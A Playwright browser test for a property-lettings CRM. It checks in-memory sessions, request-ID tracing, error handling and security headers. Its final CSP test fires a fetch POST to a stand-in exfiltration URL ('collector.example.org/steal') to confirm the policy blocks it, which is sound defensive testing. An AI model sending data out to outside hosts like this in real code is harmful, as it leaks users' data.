// Browser test (SC-009, issue 18): real backend, built frontend served with vercel.json's
// headers, and Debian's Chromium driven by playwright-core. Users are created with the backend's
// CLI; the browser signs in as a lettings negotiator (the token stays in memory), creates
// "Siobhán O'Brien" — whose X-Request-ID is then found in the API's JSON log and /trace — meets
// a 403 it must explain, a 412 from an edit someone else overtook, and a revoked token.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";
import { createUser, freePort, startBackend, waitForHttp } from "./processes.mjs";
import { startStaticServer } from "./static-server.mjs";

const frontendDir = resolve(dirname(fileURLToPath(import.meta.url)), "..");
const backendDir = resolve(frontendDir, "../backend");
const backendServe = join(backendDir, "serve");
const resultsDir = join(frontendDir, "test-results", "browser");
const chromiumPath = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const CLIENT_NAME = "Siobhán O'Brien";
// Passwords generated per run: the test never holds a fixed credential.
const NEGOTIATOR = { email: "nia.evans@example.com", fullName: "Nia Evans", role: "lettings_negotiator", password: randomBytes(18).toString("base64url") };
const MANAGER = { email: "tom.reed@example.com", fullName: "Tom Reed", role: "branch_manager", password: randomBytes(18).toString("base64url") };
/** @type {Record<string, string>} */
let backendEnv = {};
let managerToken = "";

/** @type {ReturnType<typeof startBackend>} */
let backend;
/** @type {import("node:http").Server} */
let site;
/** @type {import("playwright-core").Browser} */
let browser;
/** @type {import("playwright-core").Page} */
let page;
let apiOrigin = "";
let siteOrigin = "";
let workDir = "";
/** @type {string[]} */
const consoleProblems = [];

before(async () => {
  assert.ok(existsSync(chromiumPath), `Chromium not found at ${chromiumPath}: run scripts/install-system-deps.sh`);
  mkdirSync(resultsDir, { recursive: true });
  workDir = mkdtempSync(join(tmpdir(), "crm-browser-"));
  const [apiPort, sitePort] = [await freePort(), await freePort()];
  apiOrigin = `http://127.0.0.1:${apiPort}`;
  siteOrigin = `http://127.0.0.1:${sitePort}`;

  backendEnv = {
    DATABASE_URL: `sqlite:///${join(workDir, "crm.db")}`,
    // Generated per run: the test must never hold a fixed secret.
    SECRET_KEY: randomBytes(32).toString("hex"),
    FRONTEND_ORIGIN: siteOrigin,
    ENVIRONMENT: "test",
    RATE_LIMIT_PER_MINUTE: "1000",
    // The test signs in a handful of times within a minute, all from 127.0.0.1.
    AUTH_RATE_LIMIT_PER_MINUTE: "60",
  };
  backend = startBackend({ serve: backendServe, port: apiPort, env: backendEnv });
  // Build the real bundle for this API origin while the backend starts.
  execFileSync(join(frontendDir, "node_modules/.bin/vite"), ["build", "--outDir", join(workDir, "dist"), "--emptyOutDir", "--logLevel", "warn"], {
    cwd: frontendDir,
    env: { ...process.env, VITE_API_BASE_URL: apiOrigin },
    stdio: ["ignore", "inherit", "inherit"],
  });
  // The build wrote dist/vercel.json with connect-src set to this API origin (vercel-config.mjs):
  // serve with exactly those headers and rewrites, as Vercel would serve the preview.
  const vercelConfig = JSON.parse(readFileSync(join(workDir, "dist", "vercel.json"), "utf8"));
  site = await startStaticServer({ root: join(workDir, "dist"), port: sitePort, config: vercelConfig });
  await waitForHttp(`${apiOrigin}/health`, backend);
  for (const user of [NEGOTIATOR, MANAGER]) await createUser({ backendDir, env: backendEnv, ...user });
  managerToken = await apiLogin(MANAGER);

  browser = await chromium.launch({ executablePath: chromiumPath, args: ["--no-sandbox", "--disable-dev-shm-usage"] });
  // One browser profile (context) for the whole run, so a second tab can share its storage.
  page = await (await browser.newContext({ locale: "en-GB", timezoneId: "Europe/London" })).newPage();
  // Every CSP violation on every page becomes a console error the last test looks for.
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      console.error(`CSP violation: ${event.effectiveDirective} blocked ${event.blockedURI}`);
    });
  });
  page.on("console", (message) => {
    if (message.type() === "error") consoleProblems.push(message.text());
  });
  page.on("pageerror", (error) => consoleProblems.push(String(error)));
});

after(async () => {
  if (page) await page.screenshot({ path: join(resultsDir, "last-page.png"), fullPage: true }).catch(() => undefined);
  await browser?.close();
  await new Promise((done) => (site ? site.close(done) : done(undefined)));
  await backend?.stop();
  // The API's JSON request log of this run: scripts/test.d/75-example-check.sh feeds it to the
  // example's error-budget gate, and it is the first place to look when this test fails.
  if (backend) writeFileSync(join(resultsDir, "api-log.jsonl"), backend.rawLines.map((line) => `${line}\n`).join(""));
  if (workDir) rmSync(workDir, { recursive: true, force: true });
});

/**
 * The API's log line for the request `requestId` that answered `status`. The API logs a request
 * once it has sent the answer, so the line can come a moment after the browser has the response.
 * @param {string} requestId @param {number} status
 */
function logLineFor(requestId, status) {
  return backend.waitForLogLine((line) => line.request_id === requestId && line.status === status, `request_id=${requestId} status ${status}`);
}

/** @param {{ email: string, password: string }} user @returns {Promise<string>} a bearer token */
async function apiLogin(user) {
  const response = await fetch(`${apiOrigin}/api/auth/login`, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ email: user.email, password: user.password }),
  });
  assert.equal(response.status, 200, await response.clone().text());
  return /** @type {{ access_token: string }} */ (await response.json()).access_token;
}

/**
 * A call to the API from outside the browser, as another user would make it.
 * @param {string} method @param {string} path
 * @param {{ token?: string, body?: unknown, headers?: Record<string, string> }} [options]
 */
function api(method, path, { token = managerToken, body, headers = {} } = {}) {
  return fetch(`${apiOrigin}${path}`, {
    method,
    headers: { Authorization: `Bearer ${token}`, ...(body === undefined ? {} : { "Content-Type": "application/json" }), ...headers },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
}

/** Fill the login page in the browser and wait until it has gone. */
async function signInThroughPage(user = NEGOTIATOR) {
  await page.getByRole("heading", { name: "Sign in" }).waitFor();
  await page.getByLabel("E-mail").fill(user.email);
  await page.getByLabel("Password").fill(user.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("button", { name: "Sign out" }).waitFor();
}

/**
 * Go to `path` inside the running app, as its own links do: a page.goto would reload the page
 * and, rightly, forget the session.
 * @param {string} path
 */
async function openInApp(path) {
  await page.evaluate((to) => {
    window.history.pushState(null, "", to);
    window.dispatchEvent(new PopStateEvent("popstate"));
  }, path);
}

/** A client made through the API by the branch manager, for the tests that change one. */
async function seedClient(/** @type {string} */ fullName, /** @type {string} */ email) {
  const response = await api("POST", "/api/clients", { body: { full_name: fullName, email } });
  assert.equal(response.status, 201, await response.clone().text());
  return /** @type {{ id: number }} */ (await response.json()).id;
}

test("the static site sends vercel.json's security headers and rewrites deep links to the app", async () => {
  const response = await fetch(`${siteOrigin}/clients/new`);
  assert.equal(response.status, 200);
  assert.match(await response.text(), /<div id="root"><\/div>/);
  const csp = response.headers.get("content-security-policy") ?? "";
  assert.match(csp, new RegExp(`connect-src ${apiOrigin.replaceAll(".", "\\.")}(;|$)`));
  assert.match(csp, /script-src 'self'(;|$)/);
  assert.equal(response.headers.get("x-frame-options"), "DENY");
  assert.equal(response.headers.get("cache-control"), "no-cache");
});

test("a signed-out visitor signs in and lands where they were going; the token lives in memory only", async () => {
  await page.goto(`${siteOrigin}/clients/new`);
  await page.getByRole("heading", { name: "Sign in" }).waitFor();
  assert.equal(new URL(page.url()).pathname + new URL(page.url()).search, "/login?next=%2Fclients%2Fnew");
  await page.screenshot({ path: join(resultsDir, "login.png"), fullPage: true });
  const [login] = await Promise.all([
    page.waitForResponse((r) => new URL(r.url()).pathname === "/api/auth/login"),
    signInThroughPage(),
  ]);
  assert.equal(login.status(), 200);
  await page.getByRole("heading", { name: "New client" }).waitFor();
  assert.equal(new URL(page.url()).pathname, "/clients/new");
  await page.getByText("Nia Evans · Lettings negotiator").waitFor();

  const stored = await page.evaluate(async () => ({
    localStorage: localStorage.length,
    sessionStorage: sessionStorage.length,
    cookie: document.cookie,
    indexedDB: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
  }));
  assert.deepEqual(stored, { localStorage: 0, sessionStorage: 0, cookie: "", indexedDB: 0, caches: 0 });
  assert.deepEqual(await page.context().cookies(), []);
  // In memory means another tab of the same browser profile (same storage, same cookies) is not
  // signed in. (A reload shows the same, at the price of one more Argon2 login in the API log.)
  const otherTab = await page.context().newPage();
  try {
    await otherTab.goto(`${siteOrigin}/clients`);
    await otherTab.getByRole("heading", { name: "Sign in" }).waitFor();
    assert.equal(new URL(otherTab.url()).search, "?next=%2Fclients");
  } finally {
    await otherTab.close();
  }
});

test("a client created through the UI is listed, and its request ID is in the API log and /trace", async () => {
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Clients" }).click();
  await page.getByRole("link", { name: "New client" }).click();
  await page.getByLabel("Full name").fill(CLIENT_NAME);
  await page.getByLabel("E-mail").fill("siobhan.obrien@example.com");
  await page.getByLabel("Phone (optional)").fill("+44 20 7946 0958");
  await page.getByLabel("Notes").fill("Wants a two-bed flat near the harbour");
  const [request, response] = await Promise.all([
    page.waitForRequest((r) => r.method() === "POST" && new URL(r.url()).pathname === "/api/clients"),
    page.waitForResponse((r) => r.request().method() === "POST" && new URL(r.url()).pathname === "/api/clients"),
    page.getByRole("button", { name: "Create client" }).click(),
  ]);
  const sentHeaders = await request.allHeaders();
  assert.match(sentHeaders.authorization ?? "", /^Bearer \S+$/, "the browser sent the session's bearer token");
  const requestId = sentHeaders["x-request-id"];
  assert.match(requestId ?? "", /^[0-9a-f-]{36}$/, "the browser sent a fresh X-Request-ID");
  assert.equal(response.status(), 201);
  assert.equal((await response.allHeaders())["x-request-id"], requestId, "the API echoed the browser's ID");

  await page.getByRole("heading", { name: CLIENT_NAME }).waitFor();
  await page.getByText("Client created.").waitFor();
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Clients" }).click();
  const listed = page.getByRole("table", { name: "Clients" }).getByRole("link", { name: CLIENT_NAME });
  await listed.waitFor();
  await page.screenshot({ path: join(resultsDir, "client-created.png"), fullPage: true });

  const logged = await logLineFor(/** @type {string} */ (requestId), 201);
  assert.deepEqual({ method: logged.method, path: logged.path }, { method: "POST", path: "/api/clients" }, "the API log has the POST under the browser's request ID");

  // /trace is for branch managers (RBAC matrix).
  const trace = await api("GET", `/trace?request_id=${encodeURIComponent(/** @type {string} */ (requestId))}`);
  assert.equal(trace.status, 200);
  const body = /** @type {{request_id: string, components: string[], entries: {component?: string, statement?: string, origin?: string}[]}} */ (await trace.json());
  assert.equal(body.request_id, requestId);
  assert.deepEqual(body.components, ["frontend", "api", "db"]);
  assert.ok(body.entries.some((entry) => entry.component === "frontend" && entry.origin === siteOrigin));
  assert.ok(
    body.entries.some((entry) => entry.component === "db" && entry.statement?.startsWith("INSERT INTO clients") && entry.statement.includes(`request_id=${requestId}`)),
    "the INSERT carries the request ID as a SQL comment",
  );
});

test("a refused request shows its ID to quote to support, and that ID is the one in the API log", async () => {
  await openInApp("/clients/new");
  await page.getByLabel("Full name").fill(CLIENT_NAME);
  await page.getByLabel("E-mail").fill("siobhan.obrien@example.com");
  const [request] = await Promise.all([
    page.waitForRequest((r) => r.method() === "POST" && new URL(r.url()).pathname === "/api/clients"),
    page.getByRole("button", { name: "Create client" }).click(),
  ]);
  const alert = page.getByRole("alert");
  await alert.getByText("quote this ID to support").waitFor();
  const shown = await alert.getByTestId("request-id").textContent();
  const sent = (await request.allHeaders())["x-request-id"];
  assert.equal(shown, sent);
  assert.match(await alert.textContent() ?? "", /A client with this email exists/);
  await page.screenshot({ path: join(resultsDir, "duplicate-email-error.png"), fullPage: true });
  // The 409 is logged under the ID the user sees.
  await logLineFor(/** @type {string} */ (sent), 409);
});

test("a property is listed, opened, and a viewing booked for the new client", async () => {
  const created = await api("POST", "/api/properties", {
    body: {
      address_line1: "14 Harbour Row",
      city: "Bristol",
      postcode: "BS1 5TX",
      property_type: "flat",
      listing_type: "sale",
      bedrooms: 2,
      bathrooms: 1,
      price_pence: 32_500_000,
    },
  });
  assert.equal(created.status, 201, await created.clone().text());
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Properties" }).click();
  await page.getByRole("link", { name: "14 Harbour Row" }).click();
  await page.getByRole("heading", { name: "14 Harbour Row" }).waitFor();
  await page.getByText("£325,000").waitFor();
  const form = page.getByRole("form", { name: "Schedule a viewing" });
  await form.getByRole("option", { name: new RegExp(CLIENT_NAME) }).waitFor({ state: "attached" });
  await form.getByLabel("Client").selectOption({ label: `${CLIENT_NAME} (siobhan.obrien@example.com)` });
  await form.getByLabel("Date and time (your local time)").fill("2027-03-10T14:00");
  await form.getByLabel("Notes").fill("Bring the floor plan");
  await form.getByRole("button", { name: "Book viewing" }).click();
  await page.getByRole("table", { name: "Viewings" }).getByText("Bring the floor plan").waitFor();
  await page.getByRole("table", { name: "Viewings" }).getByText("10 Mar 2027, 14:00").waitFor();
  await page.screenshot({ path: join(resultsDir, "viewing-booked.png"), fullPage: true });
});

test("a 403 is explained: a lettings negotiator may not delete a client, and the page stays usable", async () => {
  const clientId = await seedClient("Aoife Byrne", "aoife.byrne@example.com");
  await openInApp(`/clients/${clientId}`);
  await page.getByRole("heading", { name: "Aoife Byrne" }).waitFor();
  await page.getByRole("button", { name: "Delete client" }).click();
  const [response] = await Promise.all([
    page.waitForResponse((r) => r.request().method() === "DELETE" && new URL(r.url()).pathname === `/api/clients/${clientId}`),
    page.getByRole("button", { name: "Yes, delete" }).click(),
  ]);
  assert.equal(response.status(), 403);
  assert.match((await response.request().allHeaders())["if-match"] ?? "", /^(W\/)?"[^"]+"$/, "the DELETE carried the ETag of the GET");
  const alert = page.getByRole("alert");
  await alert.getByText("Your role (Lettings negotiator) cannot delete clients.").waitFor();
  assert.match((await alert.textContent()) ?? "", /The client was not deleted/);
  // Focus moves in an effect React runs after it has painted the message: wait for it (bounded)
  // rather than assert in the instant after the text appeared.
  await page.waitForFunction((element) => element === document.activeElement, await alert.elementHandle(), { timeout: 10_000 });
  // Not a crash or a blank page: the client is still shown, and still exists.
  await page.getByRole("heading", { name: "Aoife Byrne" }).waitFor();
  await page.screenshot({ path: join(resultsDir, "forbidden-delete.png"), fullPage: true });
  assert.equal((await api("GET", `/api/clients/${clientId}`)).status, 200);
});

test("a 412 is explained: an edit overtaken by a colleague's save is not written, and reloading shows theirs", async () => {
  const clientId = await seedClient("Kwame Mensah", "kwame.mensah@example.com");
  // Listen before navigating: on a fast machine the page's GET can be answered before
  // openInApp returns, and a listener added afterwards would wait for a response already gone.
  const readOfTheClient = page.waitForResponse((r) => r.request().method() === "GET" && new URL(r.url()).pathname === `/api/clients/${clientId}`);
  await openInApp(`/clients/${clientId}/edit`);
  const read = await readOfTheClient;
  await page.getByRole("heading", { name: "Edit Kwame Mensah" }).waitFor();
  const etagSeen = (await read.allHeaders()).etag;
  assert.ok(etagSeen, "GET of one client has an ETag the page can read (CORS exposes it)");
  await page.getByLabel("Notes").fill("Looking for a garden flat");

  // Meanwhile the branch manager changes the phone number, with the same version in hand.
  const colleague = await api("PATCH", `/api/clients/${clientId}`, { body: { phone: "+44 117 496 0000" }, headers: { "If-Match": etagSeen } });
  assert.equal(colleague.status, 200, await colleague.clone().text());

  const [stale] = await Promise.all([
    page.waitForResponse((r) => r.request().method() === "PATCH" && new URL(r.url()).pathname === `/api/clients/${clientId}`),
    page.getByRole("button", { name: "Save changes" }).click(),
  ]);
  assert.equal(stale.status(), 412);
  assert.equal((await stale.request().allHeaders())["if-match"], etagSeen);
  const alert = page.getByRole("alert");
  await alert.getByText("This client was changed by someone else").waitFor();
  await alert.getByText("Looking for a garden flat").waitFor();
  await page.screenshot({ path: join(resultsDir, "changed-by-someone-else.png"), fullPage: true });

  await alert.getByRole("button", { name: "Reload the latest version" }).click();
  await page.waitForFunction(() => document.querySelector('input[name="phone"]')?.getAttribute("value") === "+44 117 496 0000");
  assert.equal(await page.getByLabel("Notes").inputValue(), "", "the form now shows the latest version");
  await page.getByLabel("Notes").fill("Looking for a garden flat");
  const [saved] = await Promise.all([
    page.waitForResponse((r) => r.request().method() === "PATCH" && new URL(r.url()).pathname === `/api/clients/${clientId}`),
    page.getByRole("button", { name: "Save changes" }).click(),
  ]);
  assert.equal(saved.status(), 200);
  await page.getByText("Changes saved.").waitFor();
  const stored = /** @type {{ phone: string, notes: string }} */ (await (await api("GET", `/api/clients/${clientId}`)).json());
  assert.deepEqual({ phone: stored.phone, notes: stored.notes }, { phone: "+44 117 496 0000", notes: "Looking for a garden flat" }, "both people's changes are kept");
});

test("a revoked token sends the user to login, and back to the form with what they had typed", async () => {
  const [someCall] = await Promise.all([
    page.waitForRequest((r) => new URL(r.url()).pathname === "/api/clients"),
    page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Clients" }).click(),
  ]);
  const browserToken = ((await someCall.allHeaders()).authorization ?? "").replace(/^Bearer /, "");
  assert.ok(browserToken, "the browser's requests carry its token");
  await page.getByRole("link", { name: "New client" }).click();
  await page.getByLabel("Full name").fill("Marek Nowak");
  await page.getByLabel("E-mail").fill("marek.nowak@example.com");
  await page.getByLabel("Notes").fill("Call after 5pm");
  // The session ends elsewhere (signed out in another tab): the API revokes the token.
  assert.equal((await api("POST", "/api/auth/logout", { token: browserToken })).status, 204);

  const [refused] = await Promise.all([
    page.waitForResponse((r) => r.request().method() === "POST" && new URL(r.url()).pathname === "/api/clients"),
    page.getByRole("button", { name: "Create client" }).click(),
  ]);
  assert.equal(refused.status(), 401);
  await page.getByText("Your session has ended. Sign in again to carry on where you left off.").waitFor();
  assert.equal(new URL(page.url()).search, "?next=%2Fclients%2Fnew");
  await page.getByLabel("Password").fill(NEGOTIATOR.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("heading", { name: "New client" }).waitFor();
  assert.equal(await page.getByLabel("Full name").inputValue(), "Marek Nowak");
  assert.equal(await page.getByLabel("Notes").inputValue(), "Call after 5pm");
  const [created] = await Promise.all([
    page.waitForResponse((r) => r.request().method() === "POST" && new URL(r.url()).pathname === "/api/clients"),
    page.getByRole("button", { name: "Create client" }).click(),
  ]);
  assert.equal(created.status(), 201);
  await page.getByRole("heading", { name: "Marek Nowak" }).waitFor();
});

test("signing out revokes the token at the API and shows the login page", async () => {
  const [someCall] = await Promise.all([
    page.waitForRequest((r) => new URL(r.url()).pathname === "/api/clients"),
    page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Clients" }).click(),
  ]);
  const browserToken = ((await someCall.allHeaders()).authorization ?? "").replace(/^Bearer /, "");
  const [logout] = await Promise.all([
    page.waitForResponse((r) => new URL(r.url()).pathname === "/api/auth/logout"),
    page.getByRole("button", { name: "Sign out" }).click(),
  ]);
  assert.equal(logout.status(), 204);
  await page.getByText("You have signed out.").waitFor();
  assert.equal(new URL(page.url()).pathname, "/login");
  assert.equal((await api("GET", "/api/clients", { token: browserToken })).status, 401, "the old token no longer works");
});

test("the CSP stops the page from connecting anywhere but the API", async () => {
  await page.goto(`${siteOrigin}/properties`);
  // The init script's console line reaches this process as its own event: listen before the fetch.
  const logged = page.waitForEvent("console", { predicate: (message) => message.text() === "CSP violation: connect-src blocked https://collector.example.org/steal", timeout: 10_000 });
  logged.catch(() => undefined); // awaited below; a failure before that is reported by what failed first
  const outcome = await page.evaluate(async () => {
    const violation = new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => {
        resolve({ directive: event.effectiveDirective, blocked: event.blockedURI, disposition: event.disposition });
      });
    });
    let fetched = "connected";
    try {
      await fetch("https://collector.example.org/steal", { method: "POST", body: "x" });
    } catch (error) {
      fetched = String(error);
    }
    return { fetched, violation: await Promise.race([violation, new Promise((resolve) => setTimeout(() => resolve(null), 2000))]) };
  });
  assert.match(outcome.fetched, /TypeError/);
  assert.deepEqual(outcome.violation, { directive: "connect-src", blocked: "https://collector.example.org/steal", disposition: "enforce" });
  await logged; // violations reach the console watch
  assert.ok(consoleProblems.includes("CSP violation: connect-src blocked https://collector.example.org/steal"), "violations reach the console watch");
});

test("no other CSP violation or script error happened in the browser", () => {
  // Chromium logs every 4xx answer as "Failed to load resource"; these are the ones the tests cause.
  const expected = /status of (401|403|409|412) |collector\.example\.org/;
  assert.deepEqual(consoleProblems.filter((text) => !expected.test(text)), []);
});
